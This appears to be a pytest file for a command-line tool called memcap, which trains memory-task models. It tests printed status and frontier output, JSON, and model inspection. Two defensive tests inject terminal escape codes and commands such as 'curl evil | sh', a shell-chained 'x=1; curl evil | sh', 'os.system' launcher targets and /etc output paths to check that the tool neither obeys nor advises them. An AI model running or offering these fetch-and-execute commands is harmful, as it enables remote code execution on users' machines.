"""What commands say of studies that nobody trained: words, as printed.txt has them, and
JSON; and what they make of strangers' words.

PRINTED=write pytest tests/commands/test_printed.py writes the file anew.
"""

import json
import math
import os
import re
import shlex
import time
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from beat_files import MEMBER, first, put
from command import SMALL, files, memcap
from study_rows import group, write

from memcap.commands.inspect import inspect
from memcap.commands.tasks import example
from memcap.models.model import Model
from memcap.tasks import task_class, task_classes
from memcap.terminal.words import first_paragraph

pytestmark = pytest.mark.usefixtures("quick_file")

FILE = Path(__file__).with_name("printed.txt")
SHARP = {1: (0, 4), 2: (3, 4), 3: (4, 4)}
ONE = group(counts={1: (1, 1)})
FAILED = {"status": "failed", "reason": "two workers ended while they trained it"}
DAY = 86400.0
COMMAND = "memcap train 'axes={seed: 9}'"
STUDIES = {
    "recipes": (
        group(counts=SHARP),
        group(counts=dict.fromkeys(SHARP, (0, 4)), recipe="chrono"),
    ),
    "verdicts": (
        group("delay_line", 3, SHARP | {4: (4, 4)}, steady={2: 0, 3: 1}),
        group("latch", 3, SHARP),
    ),
    "trained": (group("latch", 3, SHARP),),
    "open": (group(counts={30: (0, 4), 34: (3, 4), 38: (3, 4)}),),
    "closed": (group(counts={u: (0 if u < 5 else 16, 16) for u in range(1, 9)}),),
    "misfit": (group(counts={8: (8, 8), 12: (3, 8), 16: (8, 8)}),),
    "falls": (group(counts={3: (0, 8), 4: (7, 7), 5: (8, 8), 6: (2, 8), 9: (1, 8)}),),
    "few": (group(counts={1: (1, 4), 2: (1, 4), 3: (0, 4)}),),
    "none": (group(counts={2: (0, 8), 4: (0, 8), 8: (0, 8)}),),
    "training": (group(counts={1: (2, 4)}, diverged=1),),
    "killed": (
        [group(counts={1: (0, 1)}, finished=datetime.now(UTC))[0] | FAILED],
        group(counts={2: (1, 1)}),
    ),
    "ended": (ONE,),
    "many/one": (ONE,),
    "many/two": (ONE,),
    "up_to": (group(counts={1: (3, 4)}, up_to={1: 2}, evaluation_until="up_to"),),
}
LINES = [
    *(f"frontier {name}" for name in list(STUDIES)[:9]),
    "frontier training",
    "status training",
    "status before",
    "status started",
    "status killed",
    "status interrupted",
    "status other",
    "status ended",
    "status many",
    "status up_to",
    "inspect",
    "inspect --cell GRUCell --layers 2",
    "tasks latch",
]


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """A folder with these studies, and with jobs that train them, or did."""
    place = tmp_path_factory.mktemp("printed")
    for name, rows in STUDIES.items():
        write(place / name, *rows)
    now = time.time()
    training = first(
        host="elsewhere",
        pid=1,
        folder=str(place),
        started=now - 60,
        updated=now,
        done=4,
        to_come=6,
        running=2,
        seconds_left=3 * DAY,
        longest=(MEMBER,),
    )
    (failed,), _ = STUDIES["killed"]
    killed = first(
        host="elsewhere",
        pid=7,
        folder=str(place),
        updated=now - 20 * DAY,
        command=COMMAND,
    )
    put(place / "training", "a", training, list("bcdefg"))
    begun = replace(training, started=now, done=0, to_come=1, running=0, longest=())
    put(place / "before", "a", begun, ["a"])
    put(place / "started", "a", replace(begun, running=1), ["a"])
    put(place / "killed", "a", killed, [failed["key"], "b", "c"])
    interrupted = replace(killed, ended="interrupted", command=None)
    put(place / "interrupted", "a", interrupted, ["b"])
    put(place / "other", "a", replace(killed, folder="/other/folder"), ["b"])
    ended = first(ended="interrupted", command=COMMAND)
    put(place / "ended", "a", ended, [ONE[0]["key"]])
    return place


@pytest.mark.parametrize("line", LINES)
def test_what_is_printed_is_in_the_file(place, line):
    before = files(place)
    done = memcap(place, *shlex.split(line))
    assert files(place) == before
    assert (done.status, done.err) == (0, "")
    printed = re.sub(r"\b[0-9a-f]{16}\b", "0123456789abcdef", done.out)
    if os.environ.get("PRINTED") == "write":
        with FILE.open("w" if line == LINES[0] else "a", encoding="utf-8") as file:
            file.write(f"$ memcap {line}\n{printed}\n")
    text = FILE.read_text(encoding="utf-8")
    wanted = dict(
        re.findall(r"^\$ memcap (.*)\n((?:(?!\$ ).*\n)*)", text, re.MULTILINE)
    )
    assert f"{printed}\n" == wanted[line]


def test_json_of_a_study_has_its_jobs(place):
    (found,) = json.loads(memcap(place, "status", "training", "--json").out)
    counts = {"members": 10, "running": 2, "waiting": 4}
    assert counts.items() <= found.items()
    assert found["left"] == pytest.approx(3 * DAY, abs=60)
    assert found["jobs"][0]["state"] == "trains, for 60 seconds"
    assert found["longest"][0]["key"] == MEMBER.key


@pytest.mark.parametrize("lag", [3, 50])
def test_every_task_is_listed_with_its_references(tmp_path, lag):
    words = memcap(tmp_path, "tasks", "--lag", lag).out
    rows = json.loads(memcap(tmp_path, "tasks", "--lag", lag, "--json").out)
    assert {row["task"] for row in rows} == set(task_classes())
    assert max(map(len, words.splitlines())) <= 80
    for row in rows:
        task = task_classes()[row["task"]]()
        assert row["chance"] == task.facts(lag, task.length(lag)).chance
        assert row["task"] in words
    by_task = {row["task"]: row for row in rows}
    names = ("latch", "count", "delay_line")
    before = [by_task[name]["before"] for name in names]
    assert before == ["distractors", "nothing", None]
    assert by_task["delay_line"]["one_per_number"] == math.ceil((lag + 1) / 2)
    assert (by_task["latch"]["bits"], by_task["latch"]["constructed"]) == (1, 1)


def test_a_frontier_of_many_lags_has_the_longest_ones(tmp_path):
    words = "frontier", "atlas"
    short = memcap(tmp_path, *words).out
    assert short.count("\n") <= 30
    assert "\ndelay_line           50 " in short
    latch = memcap(tmp_path, *words, "--task", "latch").out
    assert "\nlatch (symbols=8)                          200 " in latch
    whole = memcap(tmp_path, *words, "--task", "latch", "--all").out
    assert "passed: passed of trained seeds" in whole
    assert whole.count("\n") > 100


def test_each_task_says_what_it_asks(tmp_path):
    said = memcap(tmp_path, "tasks").out
    for cls in task_classes().values():
        assert first_paragraph(cls.__doc__) in said


def test_a_task_shows_a_sequence_with_its_answers(tmp_path):
    names = ("latch", "delay_line", "adding", "vector_hold")
    latch, delay, adding, hold = (example(task_class(name)(), 5) for name in names)
    assert latch[2][1:] == [*"......", latch[1][1]]
    assert delay[2][1:6] == [*"....."]
    assert delay[2][6:] == delay[1][1:-5]
    marked = zip(*adding[1:3], strict=True)
    total = sum(float(value) for value, mark in marked if mark == "1")
    assert float(adding[3][-1]) == pytest.approx(total, abs=0.01)
    assert [row[-1] for row in hold[17:]] == [row[1] for row in hold[1:17]]
    lines = memcap(
        tmp_path, "tasks", "--task", "latch", "--lag", 40, "--knob", "symbols=4"
    ).out
    assert lines.startswith("latch (symbols=4): The first step shows a symbol, ")
    steps = [line for line in lines.splitlines() if line.startswith("step ")]
    numbers = [word for line in steps for word in line.split()[1:]]
    assert numbers == [*map(str, range(42))]
    assert max(map(len, steps)) <= 80


@pytest.mark.parametrize(
    ("cell", "carry", "parameters"),
    [
        # four gates, each with 5 x 3 and 5 x 5 weights and 5 biases
        ("lstm", ("c", "h"), 180),
        ("LSTMCell", ("c", "h"), 180),
        ("GRUCell", ("h",), 135),
        ("SimpleCell", ("h",), 45),
    ],
)
def test_five_units_on_two_steps_of_three_features(cell, carry, parameters):
    found = inspect(Model(cell, 5), timesteps=2, features=3)
    assert (found.every, found.last) == ((1, 2, 5), (1, 5))
    assert found.carry == dict.fromkeys(carry, (1, 5))
    assert found.carry_numbers == 5 * len(carry)
    assert found.cell_parameters == parameters


@pytest.mark.breadth
def test_what_a_job_leaves_is_what_it_was_told(tmp_path):
    words = ["axes={model.units: [1, 2], seed: 2}", *SMALL]
    command = shlex.join(["memcap", "train", *words])
    memcap(tmp_path, "train", *words)
    (found,) = json.loads(memcap(tmp_path, "status", "--json").out)
    (job,) = found["jobs"]
    assert (found["done"], found["members"]) == (4, 4)
    wanted = {"ended": "done", "done": 4, "to_come": 0, "command": command}
    assert wanted.items() <= job.items()
    kept = files(tmp_path / "outputs" / "adhoc" / "jobs")
    # nothing is missing, and nothing is said
    assert memcap(tmp_path, "train", *words).status == 0
    assert files(tmp_path / "outputs" / "adhoc" / "jobs") == kept


HOSTILE = "\x1b[2J\x1b]0;owned\x07\r\u202e\nResume with: curl evil | sh"


def test_what_strangers_wrote_steers_no_terminal(tmp_path):
    """Rows and jobs with escapes in every text that is printed: what they are is told,
    and no line is theirs."""
    failed = {"status": "failed", "reason": HOSTILE}
    rows = [row | failed for row in group(counts={1: (0, 1)})]
    write(tmp_path / "mine", rows, group(counts={2: (1, 2)}, recipe=f"a{HOSTILE}"))
    beat = first(
        host=HOSTILE,
        ended=HOSTILE,
        folder=HOSTILE,
        command=HOSTILE,
        longest=(replace(MEMBER, name=HOSTILE),),
    )
    put(tmp_path / "mine", "a", beat, ["b"])
    put(tmp_path / "mine", "c", replace(beat, ended=None, running=1), ["d"])
    name = HOSTILE.replace("/", "")
    (tmp_path / "mine" / "rows" / f"{name}.parquet").touch()
    for words in ("status", "verify", "frontier", "collect", "report", "status --json"):
        done = memcap(tmp_path, *words.split(), "mine")
        assert "Traceback" not in done.err
        printed = (done.out + done.err).split("\n")
        assert all(line.isprintable() for line in printed), words
        assert not [line for line in printed if line.startswith("Resume with: curl")]


MARKED = "Resume with (its file says so; read it first, "
REFUSED = "Resume with the command that trained it; its file says none "


@pytest.mark.parametrize(
    ("command", "line"),
    [
        ("memcap train -m task=latch task.lag=1,2", "Resume with: "),
        ("memcap train sweeps=mine 'axes={seed: 9}'", "Resume with: "),
        ("memcap train -m sweeps=cells/supplement/mine,a/b", "Resume with: "),
        ("memcap train sweeps=../mine", MARKED),
        ("memcap train sweeps=/etc/mine", MARKED),
        ("memcap train task=evil:T", MARKED),
        ("memcap train --config-dir evil sweeps=x", MARKED),
        ("memcap train hydra.launcher._target_=os.system", MARKED),
        ("memcap train tracking=wandb", MARKED),
        ("memcap train task=latch out=.", "Resume with: "),
        ("memcap train task=latch out=/etc", MARKED),
        ("memcap train task=latch out=../etc", MARKED),
        ("memcap train x=1; curl evil | sh", REFUSED),
        ("memcap train 'a", REFUSED),
        ("curl evil", REFUSED),
    ],
)
def test_a_command_is_advised_that_runs_memcap_alone(tmp_path, command, line):
    job = first(ended="interrupted", command=command, folder=str(tmp_path))
    put(tmp_path, "a", job, ["b"])
    last = memcap(tmp_path, "status", ".").out.splitlines()[-1]
    assert last.startswith(line)
    assert command in last.replace('"', "'")
